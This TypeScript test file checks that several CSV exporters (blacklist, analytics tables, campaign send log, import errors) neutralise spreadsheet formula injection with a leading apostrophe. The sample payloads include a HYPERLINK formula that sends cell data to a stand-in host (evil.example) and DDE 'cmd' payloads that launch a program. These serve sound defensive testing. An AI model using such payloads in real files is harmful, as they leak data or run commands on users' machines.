/**
 * CSV exports with hostile cells: every exporter (blacklist, analytics tables, campaign send log, report-import
 * errors) guards text a spreadsheet would run as a formula with a leading apostrophe, and keeps everything else
 * literal (HTML, mustache, RTL/zero-width characters, very long strings), parsed back cell for cell.
 */
import Papa from 'papaparse';
import { blacklistToCsv } from '../../lib/blacklist-csv';
import { tableToCsv } from '../../lib/analytics';
import { sendLogToCsv } from '../../lib/campaigns/runner/csv';
import { errorsToCsv } from '../../lib/imports/errors-csv';
import type { BlacklistEntry, SendLogEntry } from '../../lib/model';
import { HOSTILE_PAYLOADS, longText } from '../replica/data/hostile';

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  '=cmd|\' /C calc\'!A0',
  '+SUM(1,2)',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];
const LITERAL = [...HOSTILE_PAYLOADS.filter((p) => !/^[=+\-@\t\r]/.test(p)), longText(5_000, '<b>x</b>'), 'Ana\u202Eevil\u202C \u200B'];

const parse = (csv: string): string[][] => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
const FORMULA_START = /^[=+\-@\t\r]/;

/** every cell of the parsed file: formulas guarded, the rest literal */
function expectGuarded(rows: string[][], values: readonly string[]): void {
  const cells = rows.flat();
  for (const c of cells) if (!/^-?\d+(\.\d+)?$/.test(c)) expect(c, c.slice(0, 80)).not.toMatch(FORMULA_START);
  for (const v of values) {
    // the rule: an apostrophe before a formula start at the beginning of the cell and after ; , tab or line break
    const inner = v.replace(/([;,\t\r\n])(?=[=+\-@])/g, "$1'");
    const want = FORMULA_START.test(inner) ? `'${inner}` : inner;
    expect(cells, v.slice(0, 80)).toContain(want);
  }
}

describe('CSV exports guard formulas (hostile names, reasons, texts)', () => {
  const values = [...FORMULAS, ...LITERAL];

  it('blacklist export', () => {
    const entries: BlacklistEntry[] = values.map((v, i) => ({
      id: `e${i}`, buyerName: v, reason: v, marketplaceId: 'ATVPDKIKX0DER', addedAt: '2026-01-01T00:00:00.000Z',
    }));
    const rows = parse(blacklistToCsv(entries));
    expect(rows).toHaveLength(values.length + 1);
    expectGuarded(rows, values);
  });

  it('analytics tables (tableToCsv)', () => {
    const rows = parse(tableToCsv(['template', 'n'], values.map((v) => [v, -3])));
    expectGuarded(rows, values);
    // negative numbers stay numbers
    expect(rows[1]?.[1]).toBe('-3');
  });

  it('campaign send log', () => {
    const entries: SendLogEntry[] = values.map((v, i) => ({
      key: `review-request|111-0000000-000000${i % 10}`, kind: 'review-request', stage: 'failed', reason: v, text: v, templateId: v,
      attempts: 1, createdAt: '2026-01-01T00:00:00.000Z', updatedAt: '2026-01-01T00:00:00.000Z',
    }) as SendLogEntry);
    expectGuarded(parse(sendLogToCsv(entries)), values);
  });

  it('report-import errors', () => {
    const rows = parse(errorsToCsv(values.map((v, i) => ({ line: i + 2, column: v, field: 'buyer-name', value: v, reason: v }))));
    expectGuarded(rows, values);
  });
});
